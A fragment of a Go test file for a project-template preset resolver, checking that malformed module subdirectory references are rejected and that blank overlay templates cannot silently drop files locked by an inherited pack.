	const mod = "example.com/org/presets"
	tests := []struct{ ref, want string }{
		{mod + "@v1.0.0//acme", `subdirectory "/acme" must be a relative path inside the module; the subdirectory follows the version after a single /: --preset ` + mod + "@v1.0.0/acme"},
		{mod + "@v1.0.0///acme/./x/", "--preset " + mod + "@v1.0.0/acme/x"},
		{mod + "@v1.0.0//", `subdirectory "/" must be a relative path inside the module`},
	}
	for _, tt := range tests {
		t.Run(tt.ref, func(t *testing.T) {
			// No GOPROXY: a reference that got as far as go mod download would fail there.
			r := Resolver{Dir: t.TempDir(), Env: append(os.Environ(), "GOPROXY=off", "GOFLAGS=-mod=mod")}
			_, err := r.Resolve(context.Background(), tt.ref)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("Resolve(%s) = %v, want %q", tt.ref, err, tt.want)
			}
		})
	}
}

// TestBlankOverlayOfALockedFile checks that a pack's overlay template for a built-in file
// a lock of a pack it extends selects may not render nothing, which would drop the file
// as a removal would: one that renders nothing whatever the answers ({{/* none */}}) is
// refused when the pack loads, one that renders nothing for some answers when it renders
// them, naming the template, the file, the lock and its pack. A template that writes the
// file, one of the locking pack itself, one of a file the locks do not select and such a
// pack read again for a project's record are taken.
func TestBlankOverlayOfALockedFile(t *testing.T) {
	const base = "name: base\nanswers:\n  ci: gitlab\n  features: [otel, docker, ci, k8s]\nlocked: [ci, features]\n"
	const child = "name: c\nextends: ../b\n"
	tests := []struct {
		name         string
		files        map[string]string
		load, render []string // what the error of Resolve, of the render, holds; nil for none
	}{
		{"blank whatever the answers", map[string]string{"c/preset.yaml": child, "c/overlay/.gitlab-ci.yml.tmpl": "{{/* none */}}\n"},
			[]string{"c/overlay/.gitlab-ci.yml.tmpl: renders nothing whatever the answers", "so no .gitlab-ci.yml is written", "locks of preset base, ci to gitlab (b/preset.yaml:5:10)", "which preset c extends", "take it out of preset c's overlay"}, nil},
		{"blank with trim markers", map[string]string{"c/preset.yaml": child, "c/overlay/k8s/deployment.yaml.tmpl": "{{- /* none */ -}}\n  \n"},
			[]string{"c/overlay/k8s/deployment.yaml.tmpl: renders nothing", "features to a set with k8s (b/preset.yaml:5:14)"}, nil},
		// Taking the template out alone would meet the refusal of the removal: both are named.
		{"removed and replaced by a blank one", map[string]string{"c/preset.yaml": child + "remove: [.gitlab-ci.yml]\n", "c/overlay/.gitlab-ci.yml.tmpl": "{{/* none */}}\n"},
			[]string{"c/overlay/.gitlab-ci.yml.tmpl: renders nothing", "ci to gitlab", "take it out of preset c's overlay together with the entry remove .gitlab-ci.yml (c/preset.yaml:3:10)"}, nil},
		{"removed and replaced by one blank for these answers", map[string]string{"c/preset.yaml": child + "remove: [.gitlab-ci.yml]\n", "c/overlay/.gitlab-ci.yml.tmpl": "{{if eq .Name \"billing\"}}include: ci.yml{{end}}\n"},
			nil, []string{"render c/overlay/.gitlab-ci.yml.tmpl: it renders nothing for these answers", "together with the entry remove .gitlab-ci.yml (c/preset.yaml:3:10)"}},
		{"two blank for these answers, both named", map[string]string{"c/preset.yaml": child, "c/overlay/.gitlab-ci.yml.tmpl": "{{if eq .Name \"billing\"}}x{{end}}\n", "c/overlay/k8s/deployment.yaml.tmpl": "{{if eq .Name \"billing\"}}x{{end}}\n"},
			nil, []string{"render c/overlay/.gitlab-ci.yml.tmpl: it renders nothing for these answers", "render c/overlay/k8s/deployment.yaml.tmpl: it renders nothing for these answers"}},
		{"two blank ones, both named", map[string]string{"c/preset.yaml": child, "c/overlay/.gitlab-ci.yml.tmpl": "{{/* none */}}\n", "c/overlay/k8s/deployment.yaml.tmpl": "{{/* none */}}\n"},
			[]string{"c/overlay/.gitlab-ci.yml.tmpl: renders nothing", "c/overlay/k8s/deployment.yaml.tmpl: renders nothing"}, nil},
		{"blank for these answers", map[string]string{"c/preset.yaml": child, "c/overlay/.gitlab-ci.yml.tmpl": "{{if eq .Name \"billing\"}}include: ci.yml{{end}}\n"},
			nil, []string{"render c/overlay/.gitlab-ci.yml.tmpl: it renders nothing for these answers", "so no .gitlab-ci.yml is written", "locks of preset base, ci to gitlab (b/preset.yaml:5:10)", "which preset c extends"}},
		{"through a middle pack", map[string]string{"m/preset.yaml": "name: m\nextends: ../b\n", "c/preset.yaml": "name: c\nextends: ../m\n", "c/overlay/.gitlab-ci.yml.tmpl": "{{if eq .Name \"billing\"}}x{{end}}\n"},
			nil, []string{"render c/overlay/.gitlab-ci.yml.tmpl: it renders nothing", "locks of preset base, ci to gitlab"}},
		{"inherited from a middle pack", map[string]string{"m/preset.yaml": "name: m\nextends: ../b\n", "m/overlay/.gitlab-ci.yml.tmpl": "{{if eq .Name \"billing\"}}x{{end}}\n", "c/preset.yaml": "name: c\nextends: ../m\n"},
			nil, []string{"render m/overlay/.gitlab-ci.yml.tmpl: it renders nothing", "which preset m extends"}},
		{"writes the file", map[string]string{"c/preset.yaml": child, "c/overlay/.gitlab-ci.yml.tmpl": "include: ci.yml\n"}, nil, nil},
		{"the locking pack's own", map[string]string{"c/preset.yaml": "name: c\nanswers:\n  ci: gitlab\nlocked: [ci]\n", "c/overlay/.gitlab-ci.yml.tmpl": "{{/* none */}}\n"}, nil, nil},
		{"a file the locks do not select", map[string]string{"c/preset.yaml": child, "c/overlay/.github/workflows/ci.yml.tmpl": "{{/* none */}}\n"}, nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			files := map[string]string{".git/HEAD": "ref: refs/heads/main\n", "b/preset.yaml": base}
			maps.Copy(files, tt.files)
			writeTree(t, dir, files)
			r := Resolver{Dir: dir}
			holds := func(what string, err error, want []string) {
				t.Helper()
				if want == nil {
					if err != nil {
						t.Fatalf("%s: %v", what, err)
					}
					return
				}
				if err == nil {
					t.Fatalf("%s: want an error", what)
				}
				for _, w := range want {
					if !strings.Contains(err.Error(), w) {
						t.Errorf("%s: error %q does not contain %q", what, err, w)
					}
				}
			}
			p, err := r.Resolve(context.Background(), "./c")
			holds("Resolve", err, tt.load)
			if tt.load == nil {
				a, _, err := p.Resolve(moduleLayer("example.com/acme/orders"))
				if err != nil {
					t.Fatal(err)
				}
				_, err = generator.Render(context.Background(), p.Project(a, "v0.0.0-test"))
				holds("render", err, tt.render)
			}
			// A project made from the pack before it was refused keeps it.
			rp, err := r.Recorded(context.Background(), generator.RecordPreset{Name: "c", Source: "./c"})
			if err != nil {
				t.Fatalf("Recorded: %v", err)
			}
			a, _, err := rp.Resolve(moduleLayer("example.com/acme/orders"))
			if err != nil {
				t.Fatal(err)
			}
			if _, err := generator.Render(context.Background(), rp.Project(a, "v0.0.0-test")); err != nil {
				t.Errorf("render of the recorded pack: %v", err)
			}
		})
	}
}
